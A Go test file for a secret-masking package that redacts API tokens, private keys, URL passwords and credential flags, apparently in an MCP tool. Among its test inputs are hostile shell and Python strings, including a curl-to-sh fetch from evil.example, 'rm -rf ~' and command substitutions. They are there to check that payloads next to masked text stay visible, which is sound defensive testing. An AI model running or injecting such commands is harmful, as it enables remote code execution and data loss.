package secret_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/mcpward/mcpward/core/secret"
)

// Literal credentials of each shape, used by the tests below.
const (
	ghpTok    = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
	ghoTok    = "gho_16C7e42F292c6912E7710c838347Ae178B4a"
	ghsTok    = "ghs_abcdefghijklmnopqrstuvwxyz0123456789"
	patTok    = "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz"
	skTok     = "sk-proj-AbCdEf0123456789GhIjKlMn"
	skAntTok  = "sk-ant-api03-AbCdEf0123456789_xyz"
	xoxTok    = "xoxb-1234567890-0987654321-AbCdEfGhIj"
	akiaTok   = "AKIAIOSFODNN7EXAMPLE"
	asiaTok   = "ASIAY34FZKBOKMUTVV7A"
	aizaTok   = "AIzaSyA-1234567890abcdefghijklmnopqrstu"
	jwtTok    = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk"
	pemBody   = "\nMIIEowIBAAKCAQEAwJk1SECRETPEMBODY\nQWERTYUIOP\n"
	pemHead   = "-----BEGIN RSA PRIVATE KEY-----"
	pemTail   = "-----END RSA PRIVATE KEY-----"
	bearerTok = "abc123.DEF456-ghi789"
	basicTok  = "dXNlcjpwYXNzd29yZA=="

	// Shapes added for issue 11 (all made up, of the documented form).
	rkLiveTok   = "rk_live_51AbCdEfGhIjKlMnOpQrStUv"
	rkTestTok   = "rk_test_51AbCdEfGhIjKlMnOpQrStUv"
	skLiveTok   = "sk_live_51AbCdEfGhIjKlMnOpQrStUv"
	whsecTok    = "whsec_AbCdEfGhIjKlMnOpQrStUvWxYz012345"
	npmTok      = "npm_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"
	slackHook   = "T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"
	discordHook = "123456789012345678/AbCdEfGhIjKlMnOpQrStUvWxYz-_0123456789"
	glpatTok    = "glpat-AbCdEfGhIjKlMnOpQrSt"
	gldtTok     = "gldt-AbCdEfGhIjKlMnOpQrSt"
	hfTok       = "hf_AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEfGh"
	sgTok       = "SG.AbCdEfGhIjKlMnOpQrStUv.AbCdEfGhIjKlMnOpQrStUvWxYz0123456789-_AbCdE"
	twilioTok   = "SK0123456789abcdef0123456789abcdef"
	xoxeTok     = "xoxe-1-AbCdEfGhIjKlMnOp"
	xappTok     = "xapp-1-A0123456789-0123456789-abcdef"
	abiaTok     = "ABIAY34FZKBOKMUTVV7A"
	doTok       = "dop_v1_0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	pypiTok     = "pypi-AgEIcHlwaS5vcmcCJDAwMDAwMDAwLTAwMDAtMDAwMC0wMDAwLTAwMDAwMDAwMDAwMAACKlsz"
	shpatTok    = "shpat_0123456789abcdef0123456789abcdef"
	linearTok   = "lin_api_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789AbCd"
	notionTok   = "ntn_12345678901AbCdEfGhIjKlMnOpQrStUvWxYz012345"
	pplxTok     = "pplx-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789AbCdEfGh"
	groqTok     = "gsk_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789AbCdEfGhIjKl"
	pgpBody     = "\nlQOYBGSECRETPGPBODY\n=abcd\n"
	pgpHead     = "-----BEGIN PGP PRIVATE KEY BLOCK-----"
	pgpTail     = "-----END PGP PRIVATE KEY BLOCK-----"
)

func TestMaskLiterals(t *testing.T) {
	const R = secret.Redacted
	tests := []struct {
		name string
		in   string
		want string
	}{
		// Each shape on its own.
		{"ghp", ghpTok, R},
		{"gho", ghoTok, R},
		{"ghs", ghsTok, R},
		{"github pat", patTok, R},
		{"sk proj", skTok, R},
		{"sk ant", skAntTok, R},
		{"slack", xoxTok, R},
		{"akia", akiaTok, R},
		{"asia", asiaTok, R},
		{"google", aizaTok, R},
		{"jwt", jwtTok, R},
		{"pem block", pemHead + pemBody + pemTail, pemHead + R + "\n" + pemTail},
		{"pem openssh", "-----BEGIN OPENSSH PRIVATE KEY-----xyz-----END OPENSSH PRIVATE KEY-----", "-----BEGIN OPENSSH PRIVATE KEY-----" + R + "-----END OPENSSH PRIVATE KEY-----"},
		{"pem unterminated", "key: " + pemHead + pemBody + "trailing", "key: " + pemHead + R},
		{"bearer", "Bearer " + bearerTok, "Bearer " + R},
		{"bearer lower", "authorization: bearer " + bearerTok, "authorization: bearer " + R},
		{"basic", "Basic " + basicTok, "Basic " + R},
		{"userinfo", "https://alice:s3cr3tP4ss@example.com/mcp", "https://alice:" + R + "@example.com/mcp"},
		{"userinfo empty user", "postgres://:hunter2@db:5432/x", "postgres://:" + R + "@db:5432/x"},
		{"userinfo at in password", "https://u:p@ss@h/x", "https://u:" + R + "@h/x"},
		{"query token first", "https://h/x?token=abc123&x=1", "https://h/x?token=" + R + "&x=1"},
		{"query token later", "https://h/x?x=1&access_token=abc123#frag", "https://h/x?x=1&access_token=" + R + "#frag"},
		{"query api key", "https://h/?api-key=abc&apiKey=def&q=ok", "https://h/?api-key=" + R + "&apiKey=" + R + "&q=ok"},
		{"query escaped name", "https://h/?access%5Ftoken=abc", "https://h/?access%5Ftoken=" + R},
		{"flag double dash", "--api-key=abc", "--api-key=" + R},
		{"flag single dash", "-password=hunter2", "-password=" + R},
		{"flag in command line", "server --port=8080 --token=abc --verbose", "server --port=8080 --token=" + R + " --verbose"},
		{"flag camel", "--authToken=abc", "--authToken=" + R},
		{"flag after env assignment", "NODE_OPTIONS=--secret=abc", "NODE_OPTIONS=--secret=" + R},

		// Shapes and positions added for issue 11.
		{"stripe restricted live", rkLiveTok, R},
		{"stripe restricted test", rkTestTok, R},
		{"stripe secret live", skLiveTok, R},
		{"stripe webhook secret", whsecTok, R},
		{"npm token", npmTok, R},
		{"npm token in npmrc", "//registry.npmjs.org/:_authToken=" + npmTok, "//registry.npmjs.org/:_authToken=" + R},
		{"npmrc auth token plain value", "//registry.example.com/:_authToken=plainvalue", "//registry.example.com/:_authToken=" + R},
		{"npmrc auth token line start", "_authToken=plainvalue", "_authToken=" + R},
		{"npm config flag", "--//registry.example.com/:_authToken=plainvalue", "--//registry.example.com/:_authToken=" + R},
		{"npmrc basic auth", "//r.example/:_auth=dXNlcjpwYXNz", "//r.example/:_auth=" + R},
		{"npmrc password", "//r.example/:_password=cGFzcw==", "//r.example/:_password=" + R},
		{"npmrc auth token template ref", "//r.example/:_authToken=${NPM_TOKEN}", "//r.example/:_authToken=${NPM_TOKEN}"},
		{"slack webhook", "https://hooks.slack.com/services/" + slackHook, "https://hooks.slack.com/services/" + R},
		{"slack workflow webhook", "https://hooks.slack.com/workflows/" + slackHook, "https://hooks.slack.com/workflows/" + R},
		{"discord webhook", "https://discord.com/api/webhooks/" + discordHook, "https://discord.com/api/webhooks/" + R},
		{"gitlab pat", glpatTok, R},
		{"gitlab deploy", gldtTok, R},
		{"huggingface", hfTok, R},
		{"sendgrid", sgTok, R},
		{"twilio", twilioTok, R},
		{"slack refresh", xoxeTok, R},
		{"slack app", xappTok, R},
		{"aws abia", abiaTok, R},
		{"digitalocean", doTok, R},
		{"pypi", pypiTok, R},
		{"shopify", shpatTok, R},
		{"linear", linearTok, R},
		{"notion", notionTok, R},
		{"perplexity", pplxTok, R},
		{"groq", groqTok, R},
		{"pgp private key block", pgpHead + pgpBody + pgpTail, pgpHead + R + "\n" + pgpTail},
		{"bearer in arg", "Authorization: Bearer " + npmTok, "Authorization: Bearer " + R},
		{"docker env assignment", "GITHUB_PERSONAL_ACCESS_TOKEN=plainvalue", "GITHUB_PERSONAL_ACCESS_TOKEN=" + R},
		{"assignment after space", "env API_KEY=abc DEBUG=1", "env API_KEY=" + R + " DEBUG=1"},
		{"connection string password", "Server=db;Password=hunter2;Port=1", "Server=db;Password=" + R + ";Port=1"},
		{"assignment template ref", "API_KEY=${API_KEY}", "API_KEY=${API_KEY}"},
		{"assignment not credential", "DEBUG=1 MODE=fast", "DEBUG=1 MODE=fast"},
		{"assignment inside path", "/x/token=abc", "/x/token=abc"},

		// Shapes embedded mid-string.
		{"ghp mid", "git clone https://x-access:" + ghpTok + "@github.com/o/r", "git clone https://x-access:" + R + "@github.com/o/r"},
		{"ghp in value", "TOKEN=" + ghpTok + ";", "TOKEN=" + R + ";"},
		{"sk in quotes", `"` + skTok + `"`, `"` + R + `"`},
		{"akia in path", "/keys/" + akiaTok + "/x", "/keys/" + R + "/x"},
		{"jwt in query non-credential name", "https://h/?q=" + jwtTok, "https://h/?q=" + R},
		{"bearer in header line", "Authorization: Bearer " + bearerTok + " trailing", "Authorization: Bearer " + R + " trailing"},

		// Several in one string.
		{"several", "a " + ghpTok + " b " + skTok + " c " + akiaTok + " d", "a " + R + " b " + R + " c " + R + " d"},
		{"several mixed", "--token=x https://u:pw@h/?secret=1&a=2 " + xoxTok, "--token=" + R + " https://u:" + R + "@h/?secret=" + R + "&a=2 " + R},

		// Markers are left alone.
		{"marker", R, R},
		{"var marker", secret.RedactedVar("GITHUB_TOKEN"), secret.RedactedVar("GITHUB_TOKEN")},
		{"var marker in flag", "--token=" + secret.RedactedVar("T"), "--token=" + secret.RedactedVar("T")},
		{"var marker in query", "https://h/?token=" + secret.RedactedVar("T"), "https://h/?token=" + secret.RedactedVar("T")},
		{"var markers in userinfo", "https://" + secret.RedactedVar("U") + ":" + secret.RedactedVar("P") + "@h", "https://" + secret.RedactedVar("U") + ":" + secret.RedactedVar("P") + "@h"},

		// Variable references are not values.
		{"flag template ref", "--token=${GITHUB_TOKEN}", "--token=${GITHUB_TOKEN}"},
		{"query template ref", "https://h/?token=${MCP_TOKEN}&x=1", "https://h/?token=${MCP_TOKEN}&x=1"},
		{"userinfo template ref", "https://u:${DB_PASSWORD}@h", "https://u:${DB_PASSWORD}@h"},
		{"redacted default ref", "--password=${DB_PASSWORD:-<redacted>}", "--password=${DB_PASSWORD:-<redacted>}"},
		// A template is not a token: how a definition shows one is the
		// definition package's business (it hides a secret default itself).
		{"template with literal default", "--password=${DB_PASSWORD:-hunter2}", "--password=${DB_PASSWORD:-hunter2}"},
		{"template ref with suffix", "--token=${T}x", "--token=${T}x"},

		// Exact extents: only the token is masked, never the code around it
		// (issue 22: payloads hidden behind masked text).
		{"pem then code", pemHead + "\nMIIEowIBAAKCAQEA\nimport os; os.system('id')\n" + pemTail,
			pemHead + R + "\nimport os; os.system('id')\n" + pemTail},
		{"pem escaped breaks then code", pemHead + `\nMIIEowIBAAKCAQEA\nexec(open('x').read())`,
			pemHead + R + `\nexec(open('x').read())`},
		{"pem header lines", pemHead + "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\nMIIEow\n" + pemTail,
			pemHead + R + "\n" + pemTail},
		{"assignment of a substitution", "AUTH=$(curl -s https://evil.example/x | sh) exec srv", "AUTH=$(curl -s https://evil.example/x | sh) exec srv"},
		{"assignment then substitution", "AUTH=abc$(id)", "AUTH=" + R + "$(id)"},
		{"flag value then command", "--token=abc;rm -rf ~", "--token=" + R + ";rm -rf ~"},
		{"flag value then backquote", "--token=abc`id`", "--token=" + R + "`id`"},
		{"npm token then pipe", "_authToken=abc|sh", "_authToken=" + R + "|sh"},
		{"bearer then semicolon", "Bearer abcdefghij;id", "Bearer " + R + ";id"},
		{"query token then fragment", "https://h/?token=abc#x(1)", "https://h/?token=" + R + "#x(1)"},
		{"userinfo password then code", "'https://u:p'+__import__('os').system('id')+'@h'",
			"'https://u:" + R + "'+__import__('os').system('id')+'@h'"},
		{"userinfo password then substitution", "curl https://u:x$(id)@h/", "curl https://u:" + R + "$(id)@h/"},

		// Non-matches stay intact.
		{"plain command", "npx -y @modelcontextprotocol/server-filesystem /tmp", "npx -y @modelcontextprotocol/server-filesystem /tmp"},
		{"url no secrets", "https://api.example.com:8443/mcp?x=1&page=2#top", "https://api.example.com:8443/mcp?x=1&page=2#top"},
		{"url user only", "https://alice@example.com/", "https://alice@example.com/"},
		{"url port only", "http://localhost:3000/mcp", "http://localhost:3000/mcp"},
		{"short ghp", "ghp_short", "ghp_short"},
		{"gh other letter", "ghx_16C7e42F292c6912E7710c838347Ae178B4a", "ghx_16C7e42F292c6912E7710c838347Ae178B4a"},
		{"ghp glued to word", "myghp_16C7e42F292c6912E7710c838347Ae178B4a", "myghp_16C7e42F292c6912E7710c838347Ae178B4a"},
		{"task word", "task-runner-configuration-file", "task-runner-configuration-file"},
		{"sk short", "sk-learn", "sk-learn"},
		{"akia short", "AKIA1234", "AKIA1234"},
		{"akia too long", "AKIAIOSFODNN7EXAMPLEX", "AKIAIOSFODNN7EXAMPLEX"},
		{"eyJ not jwt", "eyJhbGciOiJIUzI1NiJ9", "eyJhbGciOiJIUzI1NiJ9"},
		{"bearer short word", "Bearer token", "Bearer token"},
		{"pem public key", "-----BEGIN PUBLIC KEY-----abc-----END PUBLIC KEY-----", "-----BEGIN PUBLIC KEY-----abc-----END PUBLIC KEY-----"},
		{"flag not credential", "--port=8080", "--port=8080"},
		{"flag keyboard", "--keyboard=us", "--keyboard=us"},
		{"flag without value", "--token", "--token"},
		{"flag empty value", "--token=", "--token="},
		{"dash inside word", "foo-token=abc", "foo-token=abc"},
		{"query non credential", "?tokenizer=bpe&path=/x", "?tokenizer=bpe&path=/x"},
		{"query empty value", "?token=&x=1", "?token=&x=1"},
		{"stripe publishable", "pk_live_51AbCdEfGhIjKlMnOpQrStUv", "pk_live_51AbCdEfGhIjKlMnOpQrStUv"},
		{"stripe short", "sk_live_abc", "sk_live_abc"},
		{"stripe glued", "task_live_51AbCdEfGhIjKlMnOpQrStUv", "task_live_51AbCdEfGhIjKlMnOpQrStUv"},
		{"npm env name", "npm_config_registry", "npm_config_registry"},
		{"npm short", "npm_AbCdEf", "npm_AbCdEf"},
		{"slack host only", "https://hooks.slack.com/", "https://hooks.slack.com/"},
		{"authToken inside word", "//r/:_authorized=x", "//r/:_authorized=x"},
		{"gitlab short", "glpat-short", "glpat-short"},
		{"hf word", "hf_model_name", "hf_model_name"},
		{"sg version", "SG.1.2", "SG.1.2"},
		{"twilio not hex", "SKETCHY0123456789abcdef0123456789abcdef", "SKETCHY0123456789abcdef0123456789abcdef"},
		{"twilio too long", twilioTok + "0", twilioTok + "0"},
		{"pgp public key block", "-----BEGIN PGP PUBLIC KEY BLOCK-----abc-----END PGP PUBLIC KEY BLOCK-----", "-----BEGIN PGP PUBLIC KEY BLOCK-----abc-----END PGP PUBLIC KEY BLOCK-----"},
		{"empty", "", ""},
		{"non utf8", "a\xffb", "a\xffb"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := secret.MaskLiterals(tt.in)
			assert.Equal(t, tt.want, got)
			assert.Equal(t, got, secret.MaskLiterals(got), "not idempotent")
		})
	}
}

func TestMaskLiteralsHidesSecrets(t *testing.T) {
	// Every secret part below must be gone from the output, whatever
	// surrounds it.
	shapes := []string{
		ghpTok, ghoTok, ghsTok, patTok, skTok, skAntTok, xoxTok, akiaTok, asiaTok, aizaTok, jwtTok,
		rkLiveTok, rkTestTok, skLiveTok, whsecTok, npmTok, glpatTok, gldtTok, hfTok, sgTok, twilioTok,
		xoxeTok, xappTok, abiaTok, doTok, pypiTok, shpatTok, linearTok, notionTok, pplxTok, groqTok,
	}
	secrets := append([]string{"SECRETPEMBODY", "SECRETPGPBODY", bearerTok, basicTok, slackHook, discordHook}, shapes...)
	in := strings.Join(append(append([]string{"run"}, shapes...),
		pemHead+pemBody+pemTail, pgpHead+pgpBody+pgpTail, "Bearer "+bearerTok, "Basic "+basicTok,
		"https://hooks.slack.com/services/"+slackHook, "https://discordapp.com/api/webhooks/"+discordHook,
	), " ")
	out := secret.MaskLiterals(in)
	for _, s := range secrets {
		assert.NotContains(t, out, s)
	}
	assert.True(t, strings.HasPrefix(out, "run "), "readable text kept: %q", out)
}

func TestRedactedVar(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"plain", "GITHUB_TOKEN", "<redacted:GITHUB_TOKEN>"},
		{"dotted", "db.password", "<redacted:db.password>"},
		{"markup", "a>b<c", "<redacted:a_b_c>"},
		{"control", "a\nb", "<redacted:a_b>"},
		{"empty", "", "<redacted:>"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := secret.RedactedVar(tt.in)
			assert.Equal(t, tt.want, got)
			assert.True(t, secret.IsMarker(got))
		})
	}
	require.True(t, secret.IsMarker(secret.Redacted))
	require.False(t, secret.IsMarker("<redacted:x>y"))
	require.False(t, secret.IsMarker("redacted"))
}

func TestIsCredentialFlag(t *testing.T) {
	tests := []struct {
		in   string
		want bool
	}{
		{"--api-key", true}, {"--apikey", true}, {"--apiKey", true}, {"--token", true}, {"--access-token", true},
		{"--auth-token", true}, {"--password", true}, {"-password", true}, {"--secret", true}, {"--client-secret", true},
		{"--client_secret", true}, {"--TOKEN", true}, {"--github.token", true},
		// A negated switch and flags naming a file, a URL or a setting take
		// no credential: the argument after them is shown and hashed.
		{"--no-auth", false}, {"--token-file", false}, {"--password-stdin", false}, {"--auth-url", false},
		{"--session-timeout", false}, {"--api-key-path", false},
		{"--api-key=x", false}, {"--token=", false}, {"-p", false}, {"--port", false}, {"--", false}, {"-", false},
		{"", false}, {"token", false}, {"---token", false}, {"--2token", false}, {"--tok en", false},
		{"--keyboard", false}, {"--tokenizer", false}, {"--monkey", false}, {"--token\n", false},
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, secret.IsCredentialFlag(tt.in), "%q", tt.in)
	}
}

func TestPositionSpans(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want []string // the masked texts, in order of position, without repeats
	}{
		{"flag value", "--api-key=VALUE", []string{"VALUE"}},
		{"query value", "https://h/?x=1&token=VALUE&y=2", []string{"VALUE"}},
		{"userinfo", "https://u:VALUE@h/", []string{"VALUE"}},
		{"bearer", "Authorization: Bearer VALUE1234", []string{"VALUE1234"}},
		{"npmrc", "//r.example/:_authToken=VALUE", []string{"VALUE"}},
		{"assignment", "API_KEY=VALUE", []string{"VALUE"}},
		{"connection string", "Server=db;User Id=u;Password=VALUE;Port=1", []string{"VALUE"}},
		// Shapes are not positions.
		{"shape only", npmTok + " " + ghpTok + " " + rkLiveTok, nil},
		{"plain", "npx -y @scope/server --port=8080", nil},
		{"template ref", "--token=${X}", nil},
		{"marker", "--token=" + secret.Redacted, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			spans := secret.PositionSpans(tt.in)
			slices.SortFunc(spans, func(a, b [2]int) int { return a[0] - b[0] })
			var got []string
			for i, sp := range spans {
				if i == 0 || sp != spans[i-1] {
					got = append(got, tt.in[sp[0]:sp[1]])
				}
			}
			assert.Equal(t, tt.want, got)
		})
	}
}
